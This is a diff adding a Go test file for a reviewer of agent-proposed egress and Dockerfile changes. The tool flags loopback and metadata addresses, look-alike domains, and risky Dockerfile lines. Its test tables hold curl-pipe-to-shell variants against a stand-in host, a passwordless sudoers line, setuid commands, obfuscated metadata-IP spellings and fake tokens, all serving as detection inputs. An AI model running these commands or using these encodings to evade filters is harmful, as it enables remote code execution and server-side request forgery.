@@ -1,0 +1,524 @@
+package operator
+
+import (
+	"errors"
+	"flag"
+	"fmt"
+	"os"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/bot-bottle/supervise/internal/apply"
+	"github.com/bot-bottle/supervise/internal/payload"
+)
+
+var updateFindings = flag.Bool("update-findings", false, "rewrite docs/findings.md")
+
+func codesOf(fs []Finding) []string {
+	out := []string{}
+	for _, f := range fs {
+		out = append(out, f.Code)
+	}
+	return out
+}
+
+func egressOf(host string, paths ...string) payload.Payload {
+	return payload.Payload{Tool: payload.Egress, Host: host, Route: &payload.Route{Host: host, PathAllowlist: paths}}
+}
+
+func withAuth(p payload.Payload) payload.Payload {
+	p.Route.Auth = &payload.Auth{Scheme: "Bearer", TokenRef: "GH_TOKEN"}
+	return p
+}
+
+func pipelockOf(host, url string) payload.Payload {
+	return payload.Payload{Tool: payload.Pipelock, Host: host, URL: url}
+}
+
+func planOf(targets ...apply.Target) *apply.Plan { return &apply.Plan{Bottle: "web", Targets: targets} }
+
+// newEntry is a target of kind k in which the host is not yet; table is what is there.
+func newEntry(k apply.Kind, table ...string) apply.Target {
+	return apply.Target{Kind: k, Exists: true, EntryAfter: "entry", Table: table}
+}
+
+func coveredBy(k apply.Kind, table ...string) apply.Target {
+	return apply.Target{Kind: k, Exists: true, EntryBefore: "entry", EntryAfter: "entry", Covered: true, Table: table}
+}
+
+// addsHost are the notes of every new host without paths.
+var addsHost = []string{"new-host", "whole-host"}
+
+const (
+	route = apply.KindEgress
+	gate  = apply.KindPipelock
+)
+
+func scoped() apply.Target {
+	return apply.Target{Kind: route, Exists: true, EntryBefore: "a", EntryAfter: "b"}
+}
+
+func wide() apply.Target {
+	t := scoped()
+	t.RouteWidened = true
+	return t
+}
+
+func ignored() apply.Target {
+	t := coveredBy(route)
+	t.AuthIgnored = true
+	return t
+}
+
+func loose() apply.Target {
+	t := newEntry(gate)
+	t.NotStrict = true
+	return t
+}
+
+// planCases are about what the plan says of the host.
+var planCases = []struct {
+	name string
+	p    payload.Payload
+	plan *apply.Plan
+	want []string
+}{
+	{"new host with paths", egressOf("api.example.com", "/v1/"), planOf(newEntry(route)), []string{"new-host"}},
+	{"new whole host", egressOf("api.example.com"), planOf(newEntry(route)), addsHost},
+	{"new in both gates", egressOf("api.example.com"), planOf(newEntry(gate), newEntry(route)), addsHost},
+	{"route not managed", egressOf("api.example.com"), &apply.Plan{Unmanaged: []apply.Kind{route}}, addsHost},
+	{"no plan", egressOf("api.example.com"), nil, addsHost},
+	{"routes unreadable", egressOf("127.0.0.1"), &apply.Plan{Blocked: errors.New("no")}, []string{"loopback", "ip-literal", "new-host", "whole-host"}},
+	{"covered", egressOf("10.0.0.1"), planOf(coveredBy(route)), []string{"covered"}},
+	{"covered in both gates", egressOf("a.example.com"), planOf(coveredBy(gate, "a.example.com"), coveredBy(route)), []string{"covered"}},
+	{"covered by a wildcard", pipelockOf("a.example.com", "https://a.example.com/"), planOf(coveredBy(gate, "x.example.com", "*.example.com")), []string{"covered", "wildcard-covered"}},
+	{"wildcard covers its base", pipelockOf("example.com", "https://example.com/"), planOf(coveredBy(gate, "*.Example.com")), []string{"covered", "wildcard-covered"}},
+	{"covered, but a gate is not managed", egressOf("a.example.com", "/x"), &apply.Plan{Targets: []apply.Target{coveredBy(route)}, Unmanaged: []apply.Kind{gate}}, []string{}},
+	{"routed, new to pipelock", egressOf("a.example.com"), planOf(newEntry(gate), coveredBy(route)), []string{"new-host"}},
+	{"new route, known to pipelock", egressOf("a.example.com", "/x"), planOf(coveredBy(gate, "a.example.com"), newEntry(route)), []string{"new-host"}},
+	{"more paths", egressOf("a.example.com", "/x"), planOf(scoped()), []string{"wider-paths"}},
+	{"more paths keep an address a danger", egressOf("10.1.2.3", "/x"), planOf(scoped()), []string{"private", "ip-literal", "wider-paths"}},
+	{"widened", egressOf("a.example.com"), planOf(wide()), []string{"widened"}},
+	{"auth for a new host", withAuth(egressOf("a.example.com", "/x")), planOf(newEntry(route)), []string{"credential", "new-host"}},
+	{"auth for a known host", withAuth(egressOf("a.example.com", "/x")), planOf(ignored()), []string{"covered", "auth-ignored"}},
+	{"auth, route not managed", withAuth(egressOf("a.example.com", "/x")), &apply.Plan{Unmanaged: []apply.Kind{route}}, []string{"credential", "new-host"}},
+	{"pipelock, new", pipelockOf("a.example.com", "https://a.example.com/v1"), planOf(newEntry(gate)), []string{"new-host"}},
+	{"pipelock, default ports", pipelockOf("a.example.com", "HTTP://a.example.com:80/v1"), planOf(newEntry(gate)), []string{"new-host"}},
+	{"pipelock, another port", pipelockOf("a.example.com", "https://a.example.com:8443/v1"), planOf(newEntry(gate)), []string{"new-host", "port"}},
+	{"pipelock, the other scheme's port", pipelockOf("a.example.com", "http://a.example.com:443/"), planOf(newEntry(gate)), []string{"new-host", "port"}},
+	{"pipelock not strict", pipelockOf("a.example.com", "https://a.example.com/"), planOf(loose()), []string{"new-host", "pipelock-not-strict"}},
+	{"a registry's suffix", egressOf("co.uk", "/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
+	{"a company's suffix", egressOf("github.io", "/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
+	{"a customer's name", egressOf("someone.github.io", "/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
+	{"below a customer's name", egressOf("a.bucket.s3.amazonaws.com", "/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
+	{"an ordinary name under two labels", egressOf("www.example.co.uk", "/"), planOf(newEntry(route)), []string{"new-host"}},
+}
+
+func TestHostFindings(t *testing.T) {
+	for _, tt := range planCases {
+		t.Run(tt.name, func(t *testing.T) {
+			got := codesOf(findingsFor(tt.p, tt.plan))
+			if diff := cmp.Diff(tt.want, got); diff != "" {
+				t.Errorf("findings mismatch (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+// hostCases are about what a host alone says.
+var hostCases = []struct {
+	host string
+	want string // codes besides new-host and whole-host
+}{
+	{"api.example.com", ""},
+	{"8.8.8.8", "ip-literal"},
+	{"2001:4860:4860::8888", "ip-literal"},
+	{"127.0.0.1", "loopback ip-literal"},
+	{"127.0.0.1.", "loopback ip-literal"},
+	{"127.9.9.9", "loopback ip-literal"},
+	{"0.0.0.0", "loopback ip-literal"},
+	{"::", "loopback ip-literal"},
+	{"::1", "loopback ip-literal"},
+	{"[::1]", "loopback ip-literal"},
+	{"::ffff:127.0.0.1", "loopback ip-literal"},
+	{"::127.0.0.1", "loopback ip-literal"},
+	{"64:ff9b::7f00:1", "loopback ip-literal"},
+	{"2002:7f00:1::", "loopback ip-literal"},
+	{"2130706433", "loopback ip-literal"},
+	{"0x7f000001", "loopback ip-literal"},
+	{"0x7f.1", "loopback ip-literal"},
+	{"127.1", "loopback ip-literal"},
+	{"017700000001", "loopback ip-literal"},
+	{"0177.0.0.1", "loopback ip-literal"},
+	{"010.0.0.1", "private ip-literal"}, // decimal to some
+	{"1.2.3.4.5", ""},                   // a name that no resolver has
+	{"256.1.1.1", ""},
+	{"10.0.0.1", "private ip-literal"},
+	{"172.16.0.1", "private ip-literal"},
+	{"172.32.0.1", "ip-literal"},
+	{"192.168.1.1", "private ip-literal"},
+	{"100.64.0.1", "private ip-literal"},
+	{"240.0.0.1", "private ip-literal"},
+	{"224.0.0.1", "link-local ip-literal"},
+	{"fd12::1", "private ip-literal"},
+	{"169.254.1.1", "link-local ip-literal"},
+	{"fe80::1", "link-local ip-literal"},
+	{"fe80::1%eth0", "link-local ip-literal"},
+	{"169.254.169.254", "metadata ip-literal"},
+	{"0xa9fea9fe", "metadata ip-literal"},
+	{"2852039166", "metadata ip-literal"},
+	{"::ffff:a9fe:a9fe", "metadata ip-literal"},
+	{"fd00:ec2::254", "metadata ip-literal"},
+	{"100.100.100.200", "metadata ip-literal"},
+	{"metadata", "metadata"},
+	{"metadata.google.internal", "metadata"},
+	{"METADATA.google.internal.", "metadata"},
+	{"169-254-169-254.nip.io", "metadata"},
+	{"10.0.0.1.nip.io", "private"},
+	{"app.7f000001.nip.io", "loopback"},
+	{"app.8.8.8.8.sslip.io", ""},
+	{"localhost", "loopback"},
+	{"app.localhost", "loopback"},
+	{"host.docker.internal", "loopback"},
+	{"localtest.me", "loopback"},
+	{"db", "private"},
+	{"db.internal", "private"},
+	{"printer.local", "private"},
+	{"vault.default.svc", "private"},
+	{"api.default.svc.cluster.local", "private"},
+	{"internal.example.com", ""},
+	{"xn--mnchen-3ya.de", "punycode"},
+	{"xn--pple-43d.com", "mixed-script punycode"}, // Cyrillic а in apple
+	{"xn--ghub-y0a.com", "punycode"},              // not close to anything
+	{"xn--fsqu00a.xn--0zwm56d", "punycode"},       // one script
+	{"xn--zckzah6b2c.jp", "punycode"},             // languages that mix scripts
+	{"xn--80ak6aa92e.com", "punycode"},            // all Cyrillic, аррӏе
+	{"github.com", ""},                            // the real one
+	{"api.github.com", ""},                        //
+	{"codeload.github.com", ""},                   //
+	{"pypy.org", ""},                              // real, one letter from pypi.org
+	{"githud.com", "look-alike"},                  // one letter
+	{"gihtub.com", "look-alike"},                  // two swapped
+	{"githubb.com", "look-alike"},                 // one more
+	{"githu.com", "look-alike"},                   // one less
+	{"g1thub.com", "look-alike"},                  // digit
+	{"rubygerns.org", "look-alike"},               // rn for m
+	{"git-hub.com", "look-alike"},                 // hyphen
+	{"api-github.com", "look-alike"},              // hyphen for dot
+	{"github.net", "look-alike"},                  // another suffix
+	{"pypl.org", "look-alike"},                    //
+	{"github.com.example.net", "look-alike"},      // in front
+	{"api.github.com.example.net", "look-alike"},  //
+	{"github-com.example.net", "look-alike"},      //
+	{"raw.githubuserc0ntent.com", "look-alike"},   //
+	{"registry.npmjs.org", ""},                    //
+	{"someone.github.io", "public-suffix"},        // not github.com under another suffix
+	{"xn--gthub-cta.com", "look-alike punycode"},  // gìthub
+	{"xn--80aeh9bjl.com", "punycode"},             //
+}
+
+func TestHosts(t *testing.T) {
+	for _, tt := range hostCases {
+		t.Run(tt.host, func(t *testing.T) {
+			got := codesOf(findingsFor(egressOf(tt.host), planOf(newEntry(apply.KindEgress))))
+			got = slices.DeleteFunc(got, func(c string) bool { return slices.Contains(addsHost, c) })
+			if g := strings.Join(got, " "); g != tt.want {
+				t.Errorf("findings of %q = %q, want %q", tt.host, g, tt.want)
+			}
+		})
+	}
+}
+
+func TestLookAlikeOfRouted(t *testing.T) {
+	for _, tt := range []struct {
+		host   string
+		routed []string
+		want   string // evidence; "" for no finding
+	}{
+		{"acme-corp.com", []string{"acmecorp.com"}, "acme-corp.com ~ acmecorp.com"},
+		{"acmecorp.co", []string{"acmecorp.com"}, "acmecorp.co ~ acmecorp.com"},
+		{"api2.acme.com", []string{"api1.acme.com"}, ""},             // one owner
+		{"acme.org", []string{"acme.com", "www.acme.org"}, ""},       // routed already
+		{"abc.com", []string{"abd.com"}, ""},                         // too short to tell
+		{"acme.com", []string{"localhost", "10.0.0.1", "*", ""}, ""}, //
+		{"acrne.blob.core.windows.net", []string{"acme.blob.core.windows.net"}, "acrne.blob.core.windows.net ~ acme.blob.core.windows.net"},
+		{"pypl.org", []string{"files.pypl.org"}, "pypl.org ~ pypi.org"}, // being routed does not make it the famous one
+		{"x.acrne.com", []string{"*.acme.com"}, "x.acrne.com ~ acme.com"},
+	} {
+		t.Run(tt.host, func(t *testing.T) {
+			got := ""
+			for _, f := range findingsFor(egressOf(tt.host, "/x"), planOf(newEntry(apply.KindPipelock), newEntry(apply.KindEgress, tt.routed...))) {
+				if f.Code == "look-alike" {
+					got = f.Evidence.Raw()
+				}
+			}
+			if got != tt.want {
+				t.Errorf("look-alike of %q among %q = %q, want %q", tt.host, tt.routed, got, tt.want)
+			}
+		})
+	}
+}
+
+const (
+	imgDigest  = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
+	debianBase = "FROM debian:12" + imgDigest + "\n"
+)
+
+var buildCases = []struct {
+	name string
+	now  string // "": there is none
+	file string
+	want string
+}{
+	{"nothing special", "", debianBase + "RUN apt-get install -y jq\nUSER app\n", ""},
+	{"unchanged", debianBase + "USER root\n", debianBase + "USER root\n", "covered"},
+	{"comments do not matter", debianBase + "USER app\n", debianBase + "# more\nUSER   app\n", ""},
+	{"no user", "", debianBase, "user-unset"},
+	{"no user before either", debianBase, debianBase + "RUN true\n", ""},
+	{"root", "", debianBase + "USER root\n", "user-root"},
+	{"root by number", "", debianBase + "USER 0:0\n", "user-root"},
+	{"root by variable", "", "ARG U=root\n" + debianBase + "ARG U\nUSER $U\n", "user-root"},
+	{"root by default", "", debianBase + "USER ${U:-root}\n", "user-root"},
+	{"root in between", "", debianBase + "USER root\nRUN x\nUSER app\n", ""},
+	{"root stays root", debianBase + "USER root\n", debianBase + "USER 0\n", "dropped-lines"},
+	{"root from an earlier stage", "", "FROM debian:12" + imgDigest + " AS a\nUSER root\nFROM a\n", "user-root"},
+	{"root in a stage that is not built on", "", "FROM debian:12" + imgDigest + " AS a\nUSER root\n" + debianBase + "USER app\n", ""},
+	{"unprivileged user dropped", debianBase + "USER app\n", debianBase, "user-root dropped-lines"},
+	{"pipe", "", debianBase + "USER app\nRUN curl -fsSL https://x.example/i.sh | sh\n", "curl-pipe-sh"},
+	{"pipe over lines", "", debianBase + "USER app\nRUN curl \\\n  -fsSL https://x.example/i.sh \\\n  # said aside\n\n  | \\\n  sudo -E bash -s -- -y\n", "curl-pipe-sh"},
+	{"pipe with the other escape", "", "# escape=`\n" + debianBase + "USER app\nRUN wget -qO- https://x.example/i.sh `\n | bash\n", "curl-pipe-sh"},
+	{"process substitution", "", debianBase + "USER app\nRUN bash <(curl -s https://x.example/i.sh)\n", "curl-pipe-sh"},
+	{"command substitution", "", debianBase + "USER app\nRUN sh -c \"$(curl -fsSL https://x.example/i.sh)\"\n", "curl-pipe-sh"},
+	{"eval of backticks", "", debianBase + "USER app\nRUN eval `wget -qO- https://x.example/i.sh`\n", "curl-pipe-sh"},
+	{"quoted script", "", debianBase + "USER app\nRUN bash -c 'curl https://x.example/i.sh | sh'\n", "curl-pipe-sh"},
+	{"exec form", "", debianBase + "USER app\nRUN [\"bash\", \"-c\", \"curl https://x.example/i.sh | sh\"]\n", "curl-pipe-sh"},
+	{"here-document", "", debianBase + "USER app\nRUN <<EOF\nset -e\ncurl https://x.example/i.sh | python3 -\nEOF\n", "curl-pipe-sh"},
+	{"copied here-document", "", debianBase + "USER app\nCOPY <<-\"EOF\" /i.sh\n\tcurl https://x.example/i.sh |\n\tsh\n\tEOF\n", "curl-pipe-sh"},
+	{"after && and tee", "", debianBase + "USER app\nRUN cd /tmp && curl x.example?a=1 2>&1 | tee l | env A=b /bin/bash\n", "curl-pipe-sh"},
+	{"behind ONBUILD", "", debianBase + "USER app\nONBUILD RUN curl x.example | sh\n", "curl-pipe-sh"},
+	{"at the start of the container", "", debianBase + "USER app\nCMD curl x.example | sh\n", "curl-pipe-sh"},
+	{"a pipe into tar", "", debianBase + "USER app\nRUN curl x.example | tar xz && sh ./x\n", ""},
+	{"a program that reads data", "", debianBase + "USER app\nRUN curl x.example | python3 -m json.tool\n", ""},
+	{"curl installed, then a shell", "", debianBase + "USER app\nRUN apt-get install -y curl bash; echo x | sh\n", ""},
+	{"quoted pipe", "", debianBase + "USER app\nRUN curl 'https://x.example/a|sh'\n", ""},
+	{"here-document text is no instruction", "", debianBase + "USER app\nCOPY <<EOF /x\nUSER root\nFROM evil\nEOF\n", ""},
+	{"accepted before", debianBase + "RUN curl x.example | sh\nUSER app\n", debianBase + "RUN curl  x.example | sh\nRUN true\nUSER app\n", ""},
+	{"accepted before, with a variable", debianBase + "ARG V=1\nRUN curl $V | sh\nUSER app\n", debianBase + "ARG V=2\nRUN curl $V | sh\nUSER app\n", "curl-pipe-sh dropped-lines"},
+	{"ADD from a URL", "", debianBase + "USER app\nADD --chown=1:1 https://x.example/t.tgz /opt/\n", "add-url"},
+	{"ADD from git", "", debianBase + "USER app\nADD git@x.example:a/b.git /opt/\n", "add-url"},
+	{"ADD exec form", "", debianBase + "USER app\nADD [\"HTTP://x.example/a\", \"/opt/\"]\n", "add-url"},
+	{"ADD a file", "", debianBase + "USER app\nADD a.tgz /opt/\n", ""},
+	{"secret by name", "", debianBase + "USER app\nENV A=b GITHUB_TOKEN=\"x y\"\n", "secret-in-env"},
+	{"secret, old form", "", debianBase + "USER app\nENV DB_PASSWORD hunter2\n", "secret-in-env"},
+	{"secret as build argument", "", debianBase + "USER app\nARG NPM_TOKEN\n", "secret-in-env"},
+	{"secret by value", "", debianBase + "USER app\nENV REPO=https://u:p@x.example/\n", "secret-in-env"},
+	{"key by value", "", debianBase + "USER app\nENV X=AKIAABCDEFGHIJKLMNOP\n", "secret-in-env"},
+	{"where a secret is", "", debianBase + "USER app\nENV TOKEN_FILE=/run/secrets/t GPG_KEY=ABCD SSH_AUTH_SOCK=/x EMPTY_TOKEN=\n", ""},
+	{"setuid by number", "", debianBase + "USER app\nRUN chmod 4755 /x\n", "setuid"},
+	{"setuid by letter", "", debianBase + "USER app\nRUN chmod -R u+rwx,u+s /x\n", "setuid"},
+	{"capabilities", "", debianBase + "USER app\nRUN setcap cap_net_admin+ep /x\n", "setuid"},
+	{"setuid while copying", "", debianBase + "USER app\nCOPY --chmod=4755 a /x\n", "setuid"},
+	{"sudo without a password", "", debianBase + "USER app\nRUN echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app\n", "setuid"},
+	{"ordinary modes", "", debianBase + "USER app\nRUN chmod 0755 /x && chmod +x /usr/bin/s && chmod 1777 /tmp\nCOPY --chmod=755 a /x\n", ""},
+	{"insecure", "", debianBase + "USER app\nRUN --security=insecure mount\n", "insecure-build"},
+	{"host network", "", debianBase + "USER app\nRUN --network=host true\n", "insecure-build"},
+	{"build secret", "", debianBase + "USER app\nRUN --mount=type=secret,id=a --mount=type=cache,target=/c true\n", "build-secret"},
+	{"ssh agent", "", debianBase + "USER app\nRUN --mount=target=/x,type=ssh true\n", "build-secret"},
+	{"own frontend", "", "# syntax=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
+	{"official frontend", "", "#syntax = docker/dockerfile:1.7\n" + debianBase + "USER app\n", ""},
+	{"imitated frontend", "", "# syntax=docker/dockerfile:1/x\n" + debianBase + "USER app\n", "build-frontend"},
+	{"other base", debianBase + "USER app\n", "FROM ubuntu:24.04" + imgDigest + "\nUSER app\n", "base-image"},
+	{"files from another image", debianBase + "USER app\n", debianBase + "COPY --from=x.example/y" + imgDigest + " /a /b\nUSER app\n", "base-image"},
+	{"mounted from another image", debianBase + "USER app\n", debianBase + "RUN --mount=type=bind,from=x.example/y" + imgDigest + ",target=/y true\nUSER app\n", "base-image"},
+	{"files from a stage", "", "FROM debian:12" + imgDigest + " AS a\n" + debianBase + "COPY --from=a /a /b\nCOPY --from=0 /a /b\nUSER app\n", ""},
+	{"base by variable", "ARG B=debian:12" + imgDigest + "\nFROM ${B}\nUSER app\n", debianBase + "USER app\n", "dropped-lines"},
+	{"no digest", "", "FROM debian:12\nUSER app\n", "base-unpinned"},
+	{"scratch", "", "FROM scratch\nUSER app\n", ""},
+	{"CRLF and lower case", "", "from debian:12" + imgDigest + "\r\nuser root\r\n", "user-root"},
+	{"continuation at the end", "", debianBase + "USER app\nRUN curl x.example | sh \\", "curl-pipe-sh"},
+	{"here-document without an end", "", debianBase + "USER app\nRUN <<EOF\ncurl x.example | sh\n", "curl-pipe-sh"},
+	{"not a Dockerfile", "", "hello\nworld\n", ""},
+}
+
+func buildFindings(now, file string) []Finding {
+	target := apply.Target{Kind: apply.KindDockerfile, Exists: now != "", After: []byte(file), EntryBefore: now, EntryAfter: file}
+	if now != "" {
+		target.Before = []byte(now)
+	}
+	return findingsFor(payload.Payload{Tool: payload.Capability, Dockerfile: file}, planOf(target))
+}
+
+func TestDockerfileFindings(t *testing.T) {
+	for _, tt := range buildCases {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := strings.Join(codesOf(buildFindings(tt.now, tt.file)), " "); got != tt.want {
+				t.Errorf("findings of\n%s\n= %q, want %q", tt.file, got, tt.want)
+			}
+		})
+	}
+}
+
+// FuzzFindings: whatever an agent writes, the findings come, in order, and the same each time.
+func FuzzFindings(f *testing.F) {
+	for _, tt := range buildCases {
+		f.Add(tt.now, tt.file, "example.com")
+	}
+	for _, tt := range hostCases {
+		f.Add("", "FROM a", tt.host)
+	}
+	f.Fuzz(func(t *testing.T, now, file, host string) {
+		build := buildFindings(now, file)
+		if diff := cmp.Diff(build, buildFindings(now, file)); diff != "" {
+			t.Errorf("a second reading differs (-first +second):\n%s", diff)
+		}
+		for _, fs := range [][]Finding{build, findingsFor(egressOf(host), planOf(newEntry(gate, host), newEntry(route, host)))} {
+			codes := codesOf(fs)
+			if u := slices.Compact(slices.Clone(codes)); len(u) != len(codes) {
+				t.Errorf("a code comes twice: %v", codes)
+			}
+			if !slices.IsSortedFunc(fs, func(a, b Finding) int { return strings.Compare(string(a.Level), string(b.Level)) }) { // "danger" < "note"
+				t.Errorf("a note comes before a danger: %v", codes)
+			}
+		}
+	})
+}
+
+func TestFindingTexts(t *testing.T) {
+	host := func(p payload.Payload) []Finding { return findingsFor(p, planOf(newEntry(apply.KindEgress))) }
+	for _, tt := range []struct {
+		name           string
+		got            []Finding
+		code           string
+		text, evidence string // text: a part of it
+	}{
+		{"credential", host(withAuth(egressOf("a.example.com", "/"))), "credential", "every request to this host.", "Bearer GH_TOKEN to a.example.com"},
+		{"credential in a shared domain", host(withAuth(egressOf("a.github.io", "/"))), "credential", "where anybody can get a name", "Bearer GH_TOKEN to a.github.io"},
+		{"registry", host(egressOf("co.uk")), "public-suffix", "a registry sells names", "co.uk"},
+		{"company", host(egressOf("github.io")), "public-suffix", "hands out names to its customers", "github.io"},
+		{"customer", host(egressOf("a.github.io")), "public-suffix", "a customer's name", "github.io"},
+		{"plain address", host(egressOf("8.8.8.8")), "ip-literal", "is an IP address, so", "8.8.8.8"},
+		{"odd address", host(egressOf("0x7f.1")), "ip-literal", "unusual spelling", "0x7f.1 = 127.0.0.1"},
+		{"two readings", host(egressOf("010.0.0.1")), "private", "private network", "010.0.0.1 = 8.0.0.1 = 10.0.0.1"},
+		{"punycode", host(egressOf("xn--pple-43d.com")), "punycode", "beyond ASCII", "xn--pple-43d.com = аpple.com"},
+		{"mixed script", host(egressOf("xn--pple-43d.com")), "mixed-script", "scripts", "аpple = Cyrillic + Latin"},
+		{"secret's value stays out", buildFindings("", "FROM a\nENV A_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"), "secret-in-env", "readable", "line 2: ENV A_TOKEN"},
+		{"no tag", buildFindings("", "FROM a\n"), "base-unpinned", "no tag or the tag latest", "a"},
+		{"a tag", buildFindings("", "FROM r.example:5000/a:1\n"), "base-unpinned", "not pinned by a digest", "r.example:5000/a:1"},
+		{"base", buildFindings("FROM a:1\n", "FROM b:1\n"), "base-image", "other images", "b:1 (was a:1)"},
+		{"one dropped", buildFindings("FROM a\nRUN x\n", "FROM a\n"), "dropped-lines", "One instruction", "RUN x"},
+		{"many dropped", buildFindings("FROM a\nRUN 1\nRUN 2\nRUN 3\nRUN 4\nRUN 5\nRUN 6\n", "FROM a\n"), "dropped-lines", "6 instructions", "RUN 1; RUN 2; RUN 3; RUN 4; and 2 more"},
+		{"a long line is cut", buildFindings("", "FROM a\nRUN curl x | sh "+strings.Repeat("ä", 500)+"\n"), "curl-pipe-sh", "unseen", "line 2: RUN curl x | sh " + strings.Repeat("ä", 135) + "…"},
+		{"evidence is merged", buildFindings("", "FROM a\nADD http://x /\n\nADD http://y /\n"), "add-url", "remote", "line 2: ADD http://x /; line 4: ADD http://y /"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			i := slices.IndexFunc(tt.got, func(f Finding) bool { return f.Code == tt.code })
+			if i < 0 {
+				t.Fatalf("got %v, want a %s", codesOf(tt.got), tt.code)
+			}
+			f := tt.got[i]
+			if !strings.Contains(f.Text, tt.text) || f.Evidence.Raw() != tt.evidence {
+				t.Errorf("got %q with evidence %q, want %q with %q", f.Text, f.Evidence.Raw(), tt.text, tt.evidence)
+			}
+		})
+	}
+}
+
+// TestFindingCodes: every code is listed once, dangers first, and some case of the tables raises it.
+func TestFindingCodes(t *testing.T) {
+	raised := map[string]bool{}
+	note := func(fs []Finding) {
+		for _, c := range codesOf(fs) {
+			raised[c] = true
+		}
+	}
+	for _, tt := range planCases {
+		note(findingsFor(tt.p, tt.plan))
+	}
+	for _, tt := range hostCases {
+		note(findingsFor(egressOf(tt.host), nil))
+	}
+	for _, tt := range buildCases {
+		note(buildFindings(tt.now, tt.file))
+	}
+	seen := map[string]bool{}
+	level := Danger
+	for _, d := range FindingCodes() {
+		if seen[d.Code] {
+			t.Errorf("%s is listed twice", d.Code)
+		}
+		seen[d.Code] = true
+		if d.Level == Danger && level == Note {
+			t.Errorf("danger %s comes after a note", d.Code)
+		}
+		level = d.Level
+		if !raised[d.Code] {
+			t.Errorf("no test raises %s", d.Code)
+		}
+		if len(d.Tools) == 0 || !strings.HasSuffix(d.Text, ".") {
+			t.Errorf("%s: tools %v, text %q; want tools and a sentence", d.Code, d.Tools, d.Text)
+		}
+	}
+	for c := range raised {
+		if !seen[c] {
+			t.Errorf("%s is raised and not listed", c)
+		}
+	}
+}
+
+func TestFindingsDoc(t *testing.T) {
+	const file = "../../docs/findings.md"
+	var b strings.Builder
+	b.WriteString(findingsIntro)
+	level := Level("")
+	for _, d := range FindingCodes() {
+		if d.Level != level {
+			level = d.Level
+			fmt.Fprintf(&b, "\n## %s\n\n| code | raised by | meaning |\n|---|---|---|\n", map[Level]string{Danger: "Dangers", Note: "Notes"}[level])
+		}
+		fmt.Fprintf(&b, "| `%s` | `%s` | %s |\n", d.Code, strings.Join(d.Tools, "`, `"), d.Text)
+	}
+	b.WriteString(findingsLimits)
+	if *updateFindings {
+		if err := os.WriteFile(file, []byte(b.String()), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	got, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(b.String(), string(got)); diff != "" {
+		t.Errorf("docs/findings.md mismatch, run go test ./internal/operator -run FindingsDoc -update-findings (-want +got):\n%s", diff)
+	}
+}
+
+const findingsIntro = `# Findings
+
+A preview says what approving a proposal would add, as *findings*: facts that follow from the proposal and the
+files as they are, each with a stable code, a sentence, and the part of the proposal that shows it. Nothing is
+guessed and nothing is looked up on the network.
+
+A **danger** must be accepted by its code before the proposal can be approved (` + "`supervise approve ID --accept CODE`" + `, typed in
+the terminal and in the browser). A **note** is there to be read.
+
+What counts is what would change. A proposal that changes nothing raises only ` + "`covered`" + ` and what explains it. A target that is
+not managed or cannot be read counts as if the host were not in it. In a Dockerfile an instruction that the current
+one has word for word raises nothing again, unless it has a variable in it.
+`
+
+const findingsLimits = `
+## What they do not see
+
+- Names are not resolved: a public name may point to a private address. The proxy checks the address when it dials.
+- ` + "`look-alike`" + ` compares with the hosts in the bottle's own tables and a short list of well-known ones: one letter more, less, other or
+  swapped, digits and foreign letters of the same shape, a hyphen, another suffix, a known name in front of
+  another domain.
+- ` + "`curl-pipe-sh`" + ` finds what is downloaded and run in one command. A file that is saved first and run later is not found,
+  nor is a package manager that runs scripts of its own.
+- ` + "`secret-in-env`" + ` goes by names and by the usual shapes of tokens.
+
+A proposal without findings is not a safe proposal: read the diff.
+`
